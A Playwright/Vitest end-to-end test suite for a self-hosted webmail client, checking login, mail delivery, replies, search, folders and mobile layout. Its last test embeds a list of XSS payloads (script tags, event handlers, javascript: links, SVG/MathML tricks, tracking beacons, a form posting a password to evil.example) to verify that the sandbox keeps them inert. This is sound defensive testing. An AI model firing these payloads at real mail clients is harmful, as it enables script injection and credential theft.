// The webmail in a real browser (Debian's chromium via playwright-core) against a real hearth
// on loopback: mail arrives over SMTP, is read, answered, searched and filed in the UI, and the
// results are checked where they land (Maildir, IMAP). Hostile HTML mail must stay inert.
import { readdir, readFile, mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { ImapFlow } from 'imapflow';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeChromiumSuite, deliverMail, deliverRaw, guardPage, hoursAgo, login, openChromiumSuite, rowBySubject } from './ui-helpers.ts';
import type { ChromiumSuite, Guard, WebmailHearth } from './ui-helpers.ts';

const ALICE = 'alice@example.test';
const BOB = 'bob@example.test';
const DOCS = new URL('../../docs/', import.meta.url).pathname;
/** Screenshots for the README are written only when asked (HEARTH_SCREENSHOTS=1), so a test run leaves the tree clean. */
const shoot = async (target: { screenshot(o: { path: string }): Promise<unknown> }, name: string): Promise<void> => {
  if (process.env.HEARTH_SCREENSHOTS === '1') await target.screenshot({ path: join(DOCS, name) });
};
const DESKTOP = { width: 1280, height: 800 };

/** All files of one Maildir++ folder ('' is INBOX), new/ and cur/. */
async function folderFiles(hearth: WebmailHearth, address: string, folder: string): Promise<string[]> {
  const [user, domain] = address.split('@');
  const base = join(hearth.setup.dataDir, domain, user, folder ? `.${folder}` : '');
  const out: string[] = [];
  for (const sub of ['new', 'cur']) {
    let names: string[] = [];
    try {
      names = await readdir(join(base, sub));
    } catch {
      continue;
    }
    for (const n of names) out.push(await readFile(join(base, sub, n), 'utf8'));
  }
  return out;
}

const PDF = '%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';
const HIKE_HTML = `<div style="font-family:Georgia,serif;font-size:16px;line-height:1.5;color:#222">
<p>Hi Alice,</p>
<p>Here they are &mdash; the view from the top was <b>worth every step</b>. Notes on the route are attached.</p>
<table style="border-collapse:collapse;margin:12px 0"><tr><td style="padding:6px 12px;background:#eef3e8">Distance</td><td style="padding:6px 12px">14.2 km</td></tr>
<tr><td style="padding:6px 12px;background:#eef3e8">Climb</td><td style="padding:6px 12px">870 m</td></tr><tr><td style="padding:6px 12px;background:#eef3e8">Time</td><td style="padding:6px 12px">5 h 40 min</td></tr></table>
<p>Same time next month?</p><p style="color:#666">&mdash; Carol</p></div>`;

/** A believable inbox for the screenshots (and for paging through with j/k). */
async function seedInbox(hearth: WebmailHearth): Promise<void> {
  const seed: Array<[string, string, string, number, string]> = [
    ['Ann Lee <ann@family.test>', 'Sunday lunch at ours?', 'Hi Alice,\n\nWe are doing a roast on Sunday, 1pm. Bring the kids!\n\nDirections: https://maps.example.org/?q=ann\n\nAnn', 60, ''],
    ['Hearth CI <ci@builds.example.org>', 'Build #412 passed', 'All 318 tests passed in 41 s.\n\nhttps://builds.example.org/412', 30, ''],
    ['Carol Diaz <carol@example.org>', 'Photos from the hike', 'Here they are, the view from the top was worth it.', 20, 'photos'],
    ['Dave Okafor <dave@example.org>', 'Re: Bike for sale', 'Is it still available? I could come by on Thursday.', 8, ''],
    ['The Library <noreply@library.example.org>', 'Your loan is due in 3 days', 'The Left Hand of Darkness is due on Friday. Renew at https://library.example.org/renew', 3, ''],
  ];
  for (const [from, subject, text, age, attach] of seed) {
    await deliverMail(hearth.smtpPort, {
      from,
      to: `Alice <${ALICE}>`,
      subject,
      text,
      html: attach ? HIKE_HTML : undefined,
      date: hoursAgo(age),
      attachments: attach ? [{ filename: 'summit.txt', contentType: 'text/plain', content: 'a picture, in words' }] : undefined,
    });
  }
}

describe('webmail in chromium', () => {
  let hearth: WebmailHearth;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let guard: Guard;
  const started: Partial<ChromiumSuite> = {};

  beforeAll(async () => {
    await mkdir(DOCS, { recursive: true });
    ({ hearth, browser, context, page, guard } = await openChromiumSuite(started, { seed: seedInbox, context: { viewport: DESKTOP, acceptDownloads: true } }));
  });

  afterAll(() => closeChromiumSuite(started));

  it('logs in with the mail password and shows the inbox', async () => {
    await page.goto(`${hearth.baseUrl}/`);
    await page.locator('input[name=password]').waitFor();
    await shoot(page, 'webmail-login.png');

    // A wrong password is refused with a message, not a blank page.
    await page.locator('input[name=address]').fill(ALICE);
    await page.locator('input[name=password]').fill('not-the-password');
    await page.locator('button[type=submit]').click();
    await page.locator('.login .error').waitFor();

    await page.locator('input[name=password]').fill('alice-password');
    await page.locator('button[type=submit]').click();
    await rowBySubject(page, 'Your loan is due in 3 days').waitFor();
    expect(await page.locator('.list .row[data-uid]').count()).toBe(5);
    expect(await page.locator('.folder[data-folder="INBOX"] .count').textContent()).toBe('5');
    await shoot(page, 'webmail-inbox.png');
  });

  it('shows mail that arrives over SMTP without a reload, and updates the unread count', async () => {
    const navigations: string[] = [];
    page.on('framenavigated', (f) => f === page.mainFrame() && navigations.push(f.url()));
    await deliverMail(hearth.smtpPort, {
      from: 'Bob <bob@example.test>',
      to: ALICE,
      subject: 'Live arrival',
      text: 'Did this show up by itself? See https://example.org/a?b=1&c=<2> and <script>alert("x")</script> javascript:alert(1)',
      messageId: '<live-1@example.test>',
    });
    await rowBySubject(page, 'Live arrival').waitFor();
    await page.locator('.folder[data-folder="INBOX"] .count', { hasText: '6' }).waitFor();
    expect(navigations).toEqual([]);
  });

  it('reads a message: headers, text with escaped links, and marks it read', async () => {
    const row = rowBySubject(page, 'Live arrival');
    expect(await row.getAttribute('class')).toContain('unread');
    await row.click();
    await page.locator('.reader h1.subject', { hasText: 'Live arrival' }).waitFor();
    expect(await page.locator('.reader .hdr', { hasText: 'From' }).textContent()).toContain('bob@example.test');
    const plain = page.locator('.reader .plain');
    // The text's markup is shown as text; only the http(s) URL became a link.
    expect(await plain.textContent()).toContain('<script>alert("x")</script>');
    expect(await plain.locator('script').count()).toBe(0);
    const links = await plain.locator('a').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).getAttribute('href')));
    expect(links).toEqual(['https://example.org/a?b=1&c=']);
    // Opening marks it read (POST flags), in the list and in the counter.
    await page.waitForFunction(() => !document.querySelector('.row.open')?.classList.contains('unread'));
    await page.locator('.folder[data-folder="INBOX"] .count', { hasText: '5' }).waitFor();

    // An HTML message is shown in the sandboxed frame, its attachment listed.
    await rowBySubject(page, 'Photos from the hike').click();
    const iframe = page.locator('.reader iframe.html-body');
    await iframe.waitFor();
    expect(await iframe.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
    const frame = await (await iframe.elementHandle())!.contentFrame();
    await frame!.locator('text=worth every step').waitFor();
    await page.locator('.reader a.attachment', { hasText: 'summit.txt' }).waitFor();
    await shoot(page, 'webmail-reading.png');
  });

  it('downloads an attachment with its name and type', async () => {
    await deliverMail(hearth.smtpPort, {
      from: 'Carol Diaz <carol@example.org>',
      to: ALICE,
      subject: 'Quarterly report',
      text: 'The report is attached.',
      attachments: [{ filename: 'report-q3.pdf', contentType: 'application/pdf', content: PDF }],
    });
    const row = rowBySubject(page, 'Quarterly report');
    await row.waitFor();
    await row.locator('.attach-mark').waitFor({ timeout: 3000 });
    await row.click();
    const link = page.locator('.reader a.attachment', { hasText: 'report-q3.pdf' });
    await link.waitFor({ timeout: 3000 });
    const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
    expect(download.suggestedFilename()).toBe('report-q3.pdf');
    // The same URL, with the page's session cookie: the server names and types it.
    const response = await page.request.get(download.url());
    expect(response.status()).toBe(200);
    expect(response.headers()['content-type']).toBe('application/pdf');
    expect(response.headers()['content-disposition']).toMatch(/^attachment;.*report-q3\.pdf/);
    const path = await download.path();
    expect(await readFile(path, 'utf8')).toBe(PDF);
  });

  it('saves what is being written to Drafts by itself', async () => {
    await rowBySubject(page, 'Sunday lunch at ours?').click();
    await page.locator('.reader h1.subject', { hasText: 'Sunday lunch at ours?' }).waitFor();
    await page.locator('.reader button', { hasText: 'Reply all' }).click();
    const compose = page.locator('.compose');
    await compose.locator('textarea').waitFor();
    await compose.locator('textarea').pressSequentially('We would love to come! I will bring a pudding.\n\nAlice');
    await compose.locator('.draft-status', { hasText: 'Draft saved' }).waitFor({ timeout: 10_000 });
    await shoot(page, 'webmail-compose.png');
    const drafts = await folderFiles(hearth, ALICE, 'Drafts');
    expect(drafts.some((m) => m.includes('Subject: Re: Sunday lunch at ours?') && m.includes('I will bring a pudding'))).toBe(true);
    // Closing keeps the draft; it can be opened again from Drafts.
    await compose.locator('button[aria-label^="Close"]').click();
    await compose.waitFor({ state: 'detached' });
    await page.locator('.folder[data-folder="Drafts"]').click();
    await rowBySubject(page, 'Re: Sunday lunch at ours?').click();
    await page.locator('.reader button', { hasText: 'Edit draft' }).click();
    expect(await compose.locator('textarea').inputValue()).toContain('I will bring a pudding');
    await compose.locator('button', { hasText: 'Discard' }).click();
    await compose.waitFor({ state: 'detached' });
    await rowBySubject(page, 'Re: Sunday lunch at ours?').waitFor({ state: 'detached' });
    await page.locator('.folder[data-folder="INBOX"]').click();
    await rowBySubject(page, 'Live arrival').waitFor();
  });

  it('replies: the reply reaches the other user, quoted and threaded, and a copy is in Sent', async () => {
    await rowBySubject(page, 'Live arrival').click();
    await page.locator('.reader h1.subject', { hasText: 'Live arrival' }).waitFor();
    await page.keyboard.press('r');
    const compose = page.locator('.compose');
    await compose.waitFor();
    expect(await compose.locator('input[name=subject]').inputValue()).toBe('Re: Live arrival');
    expect(await compose.locator('input[name=to]').inputValue()).toBe('Bob <bob@example.test>');
    const body = await compose.locator('textarea').inputValue();
    expect(body).toMatch(/On .+, Bob wrote:\n> Did this show up by itself\?/);
    // The composer puts the caret at the top of the body itself; type where it put it.
    await page.waitForFunction(() => document.activeElement instanceof HTMLTextAreaElement && document.activeElement.selectionStart === 0);
    await page.keyboard.type('Yes it did, live.');
    // Let the autosave write a draft first: sending must remove it from Drafts.
    await compose.locator('.draft-status', { hasText: 'Draft saved' }).waitFor({ timeout: 10_000 });
    await compose.locator('button[type=submit]').click();
    await compose.waitFor({ state: 'detached' });

    await expect.poll(async () => (await folderFiles(hearth, BOB, '')).find((m) => m.includes('Subject: Re: Live arrival')), { timeout: 10_000 }).toBeTruthy();
    const delivered = (await folderFiles(hearth, BOB, '')).find((m) => m.includes('Subject: Re: Live arrival'))!;
    expect(delivered).toMatch(/^In-Reply-To: <live-1@example\.test>/m);
    expect(delivered).toMatch(/^References: <live-1@example\.test>/m);
    expect(delivered).toContain('Yes it did, live.');
    expect(delivered).toContain('> Did this show up by itself?');
    expect(delivered).toMatch(/^From: .*alice@example\.test/m);

    await expect.poll(async () => (await folderFiles(hearth, ALICE, 'Sent')).some((m) => m.includes('Subject: Re: Live arrival')), { timeout: 10_000 }).toBe(true);
    expect((await folderFiles(hearth, ALICE, 'Drafts')).some((m) => m.includes('Subject: Re: Live arrival'))).toBe(false);
    // The original is marked answered.
    await rowBySubject(page, 'Live arrival').locator('svg title', { hasText: 'Answered' }).waitFor({ state: 'attached' });
  });

  it('searches the full-text index by a word of the body', async () => {
    await deliverMail(hearth.smtpPort, { from: 'Erin <erin@example.org>', to: ALICE, subject: 'Orchestra rehearsal', text: 'Bring the xylophonic mallets on Tuesday.' });
    await rowBySubject(page, 'Orchestra rehearsal').waitFor();
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    await page.keyboard.press('/');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('name'))).toBe('q');
    await page.keyboard.type('xylophonic');
    await page.keyboard.press('Enter');
    await page.locator('.list-head h2', { hasText: 'Search: xylophonic' }).waitFor();
    await page.waitForFunction(() => document.querySelectorAll('.list .row[data-uid]').length === 1);
    expect(await page.locator('.list .row[data-uid] .subject').textContent()).toBe('Orchestra rehearsal');
    // Back to the whole folder.
    await page.locator('.folder[data-folder="INBOX"]').click();
    await rowBySubject(page, 'Sunday lunch at ours?').waitFor();
  });

  it('moves messages to a new folder by menu and by drag-and-drop, as IMAP sees it', async () => {
    await page.locator('.new-folder-btn').click();
    await page.locator('.new-folder input').fill('Projects');
    await page.locator('.new-folder input').press('Enter');
    await page.locator('.folder[data-folder="Projects"]').waitFor();

    await rowBySubject(page, 'Quarterly report').click();
    await page.locator('.reader h1.subject', { hasText: 'Quarterly report' }).waitFor();
    await page.locator('.reader .move-menu').selectOption('Projects');
    await rowBySubject(page, 'Quarterly report').waitFor({ state: 'detached' });

    await rowBySubject(page, 'Orchestra rehearsal').dragTo(page.locator('.folder[data-folder="Projects"]'));
    await rowBySubject(page, 'Orchestra rehearsal').waitFor({ state: 'detached' });

    const imap = new ImapFlow({ host: '127.0.0.1', port: hearth.port('imap'), secure: false, auth: { user: ALICE, pass: 'alice-password' }, logger: false, tls: { rejectUnauthorized: false }, disableAutoIdle: true });
    await imap.connect();
    try {
      await imap.mailboxOpen('Projects');
      const subjects: string[] = [];
      for await (const m of imap.fetch('1:*', { envelope: true })) subjects.push(m.envelope?.subject ?? '');
      expect(subjects.sort()).toEqual(['Orchestra rehearsal', 'Quarterly report']);
      await imap.mailboxOpen('INBOX');
      const inbox: string[] = [];
      for await (const m of imap.fetch('1:*', { envelope: true })) inbox.push(m.envelope?.subject ?? '');
      expect(inbox).not.toContain('Quarterly report');
    } finally {
      await imap.logout();
    }
  });

  it('keyboard: j/k walk the list, ? shows the help, # deletes to Trash', async () => {
    await rowBySubject(page, 'Your loan is due in 3 days').click();
    await page.locator('.reader h1.subject', { hasText: 'Your loan is due in 3 days' }).waitFor();
    await page.keyboard.press('j');
    await page.locator('.reader h1.subject', { hasText: 'Re: Bike for sale' }).waitFor();
    await page.keyboard.press('k');
    await page.locator('.reader h1.subject', { hasText: 'Your loan is due in 3 days' }).waitFor();
    await page.keyboard.press('?');
    await page.locator('.dialog[aria-label="Keyboard shortcuts"]').waitFor();
    await page.keyboard.press('Escape');
    await page.locator('.dialog').waitFor({ state: 'detached' });
    await page.keyboard.press('#');
    await rowBySubject(page, 'Your loan is due in 3 days').waitFor({ state: 'detached' });
    // Grouping by conversation asks the server for threads and keeps the list usable.
    const [threaded] = await Promise.all([page.waitForResponse((r) => r.url().includes('threads=1')), page.locator('.list-head .toggle input').check()]);
    expect(threaded.status()).toBe(200);
    await rowBySubject(page, 'Re: Bike for sale').waitFor();
    await page.locator('.list-head .toggle input').uncheck();
    await expect.poll(async () => (await folderFiles(hearth, ALICE, 'Trash')).some((m) => m.includes('Subject: Your loan is due')), { timeout: 5000 }).toBe(true);
  });

  it('works on a phone: one column with back navigation', async () => {
    const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    const phoneGuard = await guardPage(phone);
    const p = await phone.newPage();
    try {
      await login(p, hearth.baseUrl, ALICE, 'alice-password');
      await rowBySubject(p, 'Sunday lunch at ours?').waitFor();
      expect(await p.locator('.sidebar').isVisible()).toBe(false);
      expect(await p.locator('.reader').isVisible()).toBe(false);
      await shoot(p, 'webmail-mobile.png');
      await rowBySubject(p, 'Sunday lunch at ours?').click();
      await p.locator('.reader h1.subject', { hasText: 'Sunday lunch at ours?' }).waitFor();
      expect(await p.locator('.list').isVisible()).toBe(false);
      await shoot(p, 'webmail-mobile-reading.png');
      await p.locator('.reader button.back').click();
      await rowBySubject(p, 'Sunday lunch at ours?').waitFor();
      expect(await p.locator('.reader').isVisible()).toBe(false);
      // The menu button shows the folders.
      await p.locator('.topbar button[aria-label=Folders]').click();
      await p.locator('.sidebar').waitFor();
      expect(phoneGuard.remoteRequests).toEqual([]);
    } finally {
      await phone.close();
    }
  });

  it('shows a banner while the server cannot be reached, and clears it when it is back', async () => {
    await page.route('**/api/**', (route) => route.abort('connectionrefused'));
    await page.locator('.folder[data-folder="Projects"]').click();
    await page.locator('.banner').waitFor();
    await page.unroute('**/api/**');
    await page.locator('.banner').waitFor({ state: 'detached', timeout: 10_000 });
    await rowBySubject(page, 'Quarterly report').waitFor();
    await page.locator('.folder[data-folder="INBOX"]').click();
  });

  it('keeps hostile HTML mail inert inside the sandboxed frame', async () => {
    const hostile: Array<[string, string]> = [
      ['script tags', `<p>hello</p><script>alert('HOSTILE-script');console.log('HOSTILE-ran')</script><script src="http://evil.example/x.js"></script>`],
      ['event handlers', `<img src="x" onerror="alert('HOSTILE-onerror')"><body onload="alert('HOSTILE-onload')"><div onmouseover="alert(1)">hover</div>`],
      ['javascript links', `<a id="jslink" href="javascript:alert('HOSTILE-link')">click me</a> <a href="JaVaScRiPt&colon;alert(2)">and me</a>`],
      ['svg tricks', `<svg><script>alert('HOSTILE-svg')</script><animate onbegin="alert('HOSTILE-animate')" attributeName="x" dur="1s"/><a xlink:href="javascript:alert(3)"><text x="10" y="20">svg link</text></a><image href="http://evil.example/svg.png"/></svg>`],
      ['mathml tricks', `<math><mtext><table><mglyph><style><img src=x onerror="alert('HOSTILE-math')"></style></mglyph></table></mtext></math><math href="javascript:alert(4)">x</math>`],
      ['css beacons', `<style>@import url(http://evil.example/x.css); body { background: url(http://beacon.evil.example/bg.png) }</style><div style="background-image:url('http://beacon.evil.example/div.png')">styled</div><img src="http://tracker.evil.example/pixel.gif"><link rel="stylesheet" href="http://evil.example/y.css">`],
      ['meta refresh', `<meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"><p>refresh</p>`],
      ['forms', `<form action="http://evil.example/steal" method="post"><input name="password" value="secret"><button id="go" type="submit">Log in</button></form>`],
      ['frames and breakout', `</iframe></div><div id="escaped" style="position:fixed;inset:0;background:red">ESCAPED</div><iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object><embed src="http://evil.example/e">`],
    ];
    const fixtureDir = new URL('../fixtures/hostile/', import.meta.url).pathname;
    const fixtures = (await readdir(fixtureDir).catch(() => [] as string[])).filter((n) => n.endsWith('.eml'));
    for (const [name, html] of hostile) {
      await deliverMail(hearth.smtpPort, { from: 'Mallory <mallory@evil.example>', to: ALICE, subject: `Hostile: ${name}`, html });
    }
    for (const f of fixtures) {
      const raw = (await readFile(join(fixtureDir, f), 'utf8')).replace(/\r?\n/g, '\r\n');
      await deliverRaw(hearth.smtpPort, 'mallory@evil.example', ALICE, raw);
    }
    // Markup in a subject is text, in the list and in the reader.
    await deliverMail(hearth.smtpPort, { from: '"<img src=x onerror=alert(5)>" <mallory@evil.example>', to: ALICE, subject: `<img src=x onerror="alert('HOSTILE-subject')">`, text: 'plain' });

    await page.locator('.folder[data-folder="INBOX"]').click();
    await rowBySubject(page, 'Hostile: frames and breakout').waitFor();
    const before = { dialogs: guard.dialogs.length, console: guard.consoleMessages.length, errors: guard.pageErrors.length };
    const topDocument = page.url().split('#')[0];
    const rows = page.locator('.list .row[data-uid]').filter({ has: page.locator('.from', { hasText: 'Mallory' }) });
    await page.waitForFunction((n) => document.querySelectorAll('.list .row[data-uid]').length >= n, hostile.length);
    const count = await rows.count();
    expect(count).toBeGreaterThanOrEqual(hostile.length);
    let framesChecked = 0;
    for (let i = 0; i < count; i++) {
      await rows.nth(i).click();
      const subject = await rows.nth(i).locator('.subject').textContent();
      await page.locator('.reader h1.subject', { hasText: subject ?? '' }).waitFor();
      const iframe = page.locator('.reader iframe.html-body');
      if ((await iframe.count()) === 0) continue;
      expect(await iframe.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
      const frame = await (await iframe.elementHandle())!.contentFrame();
      await frame!.waitForLoadState('load');
      framesChecked++;
      // Clicking what looks clickable inside the mail must not run anything either.
      for (const sel of ['#jslink', '#go']) {
        const target = frame!.locator(sel);
        if ((await target.count()) > 0) await target.click({ timeout: 500, noWaitAfter: true }).catch(() => undefined);
      }
    }
    expect(framesChecked).toBeGreaterThanOrEqual(hostile.length);
    // Settle: one more round trip through the page after the last frame.
    await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => r(null))));

    expect(guard.dialogs.slice(before.dialogs)).toEqual([]);
    expect(guard.pageErrors.slice(before.errors)).toEqual([]);
    const consoleFromMail = guard.consoleMessages.slice(before.console).filter((m) => /HOSTILE|alert/i.test(m.text) && !/Blocked script execution|sandboxed/i.test(m.text));
    expect(consoleFromMail).toEqual([]);
    expect(guard.remoteRequests).toEqual([]);
    expect(page.url().split('#')[0]).toBe(topDocument);
    // Nothing of the mail rendered in the app's own document.
    expect(await page.locator('#escaped').count()).toBe(0);
    expect(await page.locator('body', { hasText: 'ESCAPED' }).count()).toBe(0);
    expect(await page.locator('.app img, .app object, .app embed, .app iframe:not(.html-body), .reader form, .list form, .app input[name=password]').count()).toBe(0);
    expect(await page.evaluate(() => document.title)).not.toMatch(/pwn/i);
    expect(await rowBySubject(page, `<img src=x onerror="alert('HOSTILE-subject')">`).count()).toBe(1);
    expect(context.pages()).toHaveLength(1);
  });
});
